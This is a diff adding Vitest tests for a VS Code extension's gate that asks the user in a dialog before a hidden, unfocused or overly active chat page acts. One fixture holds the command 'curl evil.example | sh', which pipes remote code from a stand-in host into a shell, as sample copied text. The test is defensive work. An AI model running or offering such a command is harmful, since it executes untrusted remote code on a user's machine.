@@ -1,0 +1,96 @@
+import { expect, it } from 'vitest';
+import { createPageGate } from '../../../src/extension/panel/pageGate.ts';
+import type { PageMessage } from '../../../src/panel/messages.ts';
+import { fakeVscode } from '../../support/fakeVscode.ts';
+import { manualClock } from '../../support/manualClock.ts';
+import { settle } from '../session/fakeTarget.ts';
+
+const copy: PageMessage = { type: 'copyText', text: 'curl evil.example | sh' };
+const ask: PageMessage = {
+  type: 'ask',
+  request: 1,
+  text: 'q',
+  parent: null,
+  askMode: 'auto',
+  zeroRetention: false,
+  approvedToken: 'token',
+};
+
+function open() {
+  const fake = fakeVscode();
+  const clock = manualClock();
+  const place = { visible: true };
+  const gate = createPageGate({ vscode: fake.api, isVisible: () => place.visible, clock });
+  return { fake, clock, place, gate };
+}
+
+it('lets a page act without a dialog while it is visible and its window has the focus', () => {
+  const { gate, fake } = open();
+  expect([gate(copy), gate(ask)]).toEqual([true, true]);
+  expect(fake.messages).toEqual([]);
+});
+
+it('asks the user in a dialog before a page acts in a window without the focus', async () => {
+  const { gate, fake, clock } = open();
+  fake.focusWindow(false);
+  const refused = gate(ask);
+  clock.pass(500);
+  expect([await refused, fake.messages]).toEqual([false, ['Allow the chat to continue?']]);
+  fake.answers.push('Allow');
+  const allowed = gate(ask);
+  clock.pass(500);
+  expect(await allowed).toBe(true);
+});
+
+it('waits for the focus that a click in the page gives to its window', async () => {
+  const { gate, fake, clock } = open();
+  fake.focusWindow(false);
+  const allowed = gate(copy);
+  clock.pass(499);
+  fake.focusWindow(true);
+  expect([await allowed, fake.messages]).toEqual([true, []]);
+});
+
+it('asks the user in a dialog before a hidden page acts', async () => {
+  const { gate, fake, place } = open();
+  place.visible = false;
+  expect(await gate(copy)).toBe(false);
+  expect(fake.messages).toEqual(['Allow the chat to continue?']);
+});
+
+it('takes drafts, requests for the state and stops from a page at any time', () => {
+  const { gate, fake, place } = open();
+  fake.focusWindow(false);
+  place.visible = false;
+  const messages: PageMessage[] = [{ type: 'ready' }, { type: 'draft', text: 'q' }, { type: 'stop', turnId: 'a' }];
+  expect(messages.map((message) => gate(message))).toEqual([true, true, true]);
+});
+
+it('asks the user in a dialog before a page asks more questions than a person does', async () => {
+  const { gate, fake, clock } = open();
+  for (let count = 0; count < 20; count++) expect(gate(ask)).toBe(true);
+  expect(await gate(ask)).toBe(false);
+  clock.pass(60_000);
+  expect(gate(ask)).toBe(true);
+  expect(fake.messages).toHaveLength(1);
+});
+
+it('counts actions again from zero after the user allowed the page to continue', async () => {
+  const { gate, fake } = open();
+  for (let count = 0; count < 40; count++) expect(gate(copy)).toBe(true);
+  fake.answers.push('Allow');
+  expect(await gate(copy)).toBe(true);
+  expect(gate(copy)).toBe(true);
+});
+
+it('refuses other actions of a page while a dialog about it is open', async () => {
+  const { gate, fake, place } = open();
+  place.visible = false;
+  let close = (_chosen: unknown) => {};
+  Object.assign(fake.api.window, { showWarningMessage: () => new Promise((resolve) => (close = resolve)) });
+  const first = gate(copy);
+  expect(await gate(ask)).toBe(false);
+  close('Allow');
+  await settle();
+  expect(await first).toBe(true);
+});
